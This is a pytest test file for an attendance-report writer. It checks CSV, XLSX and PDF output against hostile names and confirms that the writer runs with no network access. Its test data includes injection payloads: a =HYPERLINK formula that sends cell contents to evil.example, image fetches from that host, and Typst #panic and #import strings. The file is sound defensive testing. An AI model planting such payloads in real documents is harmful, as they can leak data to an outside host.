"""The writing process by itself, where there is no network: names from hell, and no way out."""

from __future__ import annotations

import base64
import csv
import functools
import io
import json
import random
import socket
import subprocess
import sys
from collections.abc import Sequence
from typing import Any

import openpyxl
import pytest
from pypdf import PdfReader

from foundation.spreadsheets import harmless
from tenant_stack.reports.columns import Column, duration_text
from tenant_stack.reports.writers import __main__ as process
from tenant_stack.reports.writers.document import Bar, Document
from tenant_stack.reports.writers.pdf import narrow_hours
from tests.tenant_stack.test_logo import encoded, plain

LONG = "Maximiliana " * 417  # 5,004 characters
NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1)',
    "Ann <b",
    "<img src=http://evil.example/x.png>",
    "+971501234567",
    '#image("http://evil.example/x.png")',
    '#import "@preview/cetz:0.3.4"',
    "] #panic() [",
    "محمد بن عبد الله العلي",
    "आरती शर्मा",
    LONG,
    "-2+3",
    "\tTab",
    "line\nbreak",
)
COLUMNS = (
    Column("employee_id", "Employee", width=10),
    Column("name", "Name", width=26),
    Column("worked", "Worked", "duration", total=True, width=9),
    Column("count_late", "Times late", "number", total=True, width=8),
)


@functools.cache
def fence() -> tuple[str, ...]:
    """A command that runs another in a network namespace without any interface, where the machine allows it."""
    command = ("unshare", "--map-root-user", "--net")
    try:
        allowed = subprocess.run([*command, "true"], capture_output=True, check=False).returncode == 0
    except FileNotFoundError:
        allowed = False
    return command if allowed else ()


def written(form: str, names: Sequence[str], *, logo: str = "") -> bytes:
    """The file that the writing process makes of these people."""
    document = Document(
        format=form,
        title="Daily attendance",
        organisation="Acme <script>",
        period="1 September 2026",
        zones=["Asia/Dubai"],
        filters=["Departments: #panic()"],
        made="Made for Ann",
        columns=COLUMNS,
        count=len(names),
        tiles=[("People", "13")],
        bars=[Bar("1", (3, 1, 0, 2)), Bar("2", (0, 0, 0, 0))],
        legend=["On time", "Late", "Absent", "Leave"],
        logo=logo,
    )
    rows = [(0, str(number), name, 30_000 + number, number % 3) for number, name in enumerate(names)]
    total = (9, "Total", None, sum(row[3] for row in rows), sum(row[4] for row in rows))
    batches = [rows[start : start + 500] for start in range(0, len(rows), 500)]
    lines = [document.plain(), *batches, [total]]
    done = subprocess.run(
        [*fence(), sys.executable, "-m", "tenant_stack.reports.writers"],
        input="\n".join(json.dumps(line) for line in lines).encode(),
        capture_output=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr.decode()
    return done.stdout


def test_names_from_hell_in_a_sheet() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(written("xlsx", NAMES)))["Report"]
    cells = [row[1] for row in sheet.iter_rows(min_row=2, max_row=len(NAMES) + 1)]
    assert [cell.value for cell in cells] == list(NAMES)
    assert {cell.data_type for cell in cells} == {"s"}
    assert {row[0].data_type for row in sheet.iter_rows(min_row=2, max_row=3)} == {"s"}


def test_names_from_hell_in_csv() -> None:
    rows = list(csv.reader(io.StringIO(written("csv", NAMES).decode("utf-8-sig"), newline="")))
    names = [row[1] for row in rows[1:]]
    assert names[0].startswith("'=")
    assert names[3] == "+971501234567"
    assert names[7:10] == list(NAMES[7:10])
    assert names[10] == "'-2+3"
    assert names[11] == "'\tTab"
    assert rows[1][2] == duration_text(30_000)
    assert len(rows) == len(NAMES) + 1


def test_names_from_hell_on_paper() -> None:
    pages = PdfReader(io.BytesIO(written("pdf", NAMES))).pages
    text = "\n".join(page.extract_text() for page in pages)
    for name in ("=HYPERLINK(", "Ann <b", "<img src=http", "+971501234567", "#import", "] #panic() [", "-2+3"):
        assert name in text, name
    assert "…" in text
    assert "Page 1 of 1" in text
    assert duration_text(sum(30_000 + number for number in range(len(NAMES)))) in text
    resources: Any = pages[0]["/Resources"]
    fonts = {str(font.get_object()["/BaseFont"]) for font in resources["/Font"].get_object().values()}
    # Noto Sans holds Latin and Devanagari; nothing comes from the machine's own fonts.
    assert all("NotoSans" in name for name in fonts), fonts
    assert any("Arabic" in name for name in fonts), fonts
    assert "आरती" in text


def test_parts_of_a_long_paper_make_one_document() -> None:
    chance = random.Random(3)
    names = [f"Person {chance.randint(0, 10**6)}" for _ in range(12_000)]
    logo = base64.b64encode(encoded(plain(300, 100))).decode()
    pages = PdfReader(io.BytesIO(written("pdf", names, logo=logo))).pages
    assert [len(pages[number].images) for number in (0, 1, -1)] == [1, 0, 0]
    assert f"Page {len(pages)} of {len(pages)}" in pages[-1].extract_text()
    assert f"Page 2 of {len(pages)}" in pages[1].extract_text()
    assert duration_text(sum(30_000 + number for number in range(12_000))) in pages[-1].extract_text()
    found = sum(page.extract_text().count("Person ") for page in (pages[0], pages[-1]))
    assert found > 0


@pytest.mark.parametrize("form", ["csv", "xlsx", "pdf"])
def test_no_network_is_missed(form: str) -> None:
    """Neither Python's code nor a library's own: the file is made where not even loopback is up."""
    if not fence():
        pytest.skip("this machine lets nobody make network namespaces")
    probe = "import socket; socket.create_connection(('127.0.0.1', 9), 1)"
    alone = subprocess.run([*fence(), sys.executable, "-c", probe], capture_output=True, check=False)
    assert b"Network is unreachable" in alone.stderr
    assert written(form, NAMES)


def test_the_writing_process_has_no_network() -> None:
    """Every socket is refused, in whatever library: the hook cannot be taken off again."""
    script = (
        "import sys, socket\n"
        "from tenant_stack.reports.writers import __main__ as process\n"
        "sys.addaudithook(process._refuse)\n"
        "try:\n    socket.create_connection((sys.argv[1], int(sys.argv[2])), 2)\n"
        "except process.NoNetwork as error:\n    print('refused', error)\n"
    )
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        done = subprocess.run(
            [sys.executable, "-c", script, "127.0.0.1", str(port)], capture_output=True, timeout=60, check=True
        )
    assert done.stdout.startswith(b"refused")
    assert process.NoNetwork.__doc__


@pytest.mark.parametrize("form", ["csv", "xlsx", "pdf"])
def test_nothing_in_makes_a_file_too(form: str) -> None:
    data = written(form, [])
    assert data[:4] in (b"\xef\xbb\xbfE", b"PK\x03\x04", b"%PDF")


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("-12.50", "-12.50"),
        ("+971 50 123 4567", "+971 50 123 4567"),
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@x", "'@x"),
        ("\uff1d1", "'\uff1d1"),
        ("Ann", "Ann"),
        ("", ""),
    ],
)
def test_formulas_are_made_harmless_by_type(text: str, safe: str) -> None:
    assert harmless(text) == safe


@pytest.mark.parametrize(
    ("seconds", "shown"),
    [(0, "0:00"), (27_159, "7:32"), (359_940, "99:59"), (360_000, "100h"), (683_640, "190h"), (36_001_800, "10001h")],
)
def test_hours_fit_the_column_of_a_day(seconds: int, shown: str) -> None:
    assert narrow_hours(seconds) == shown
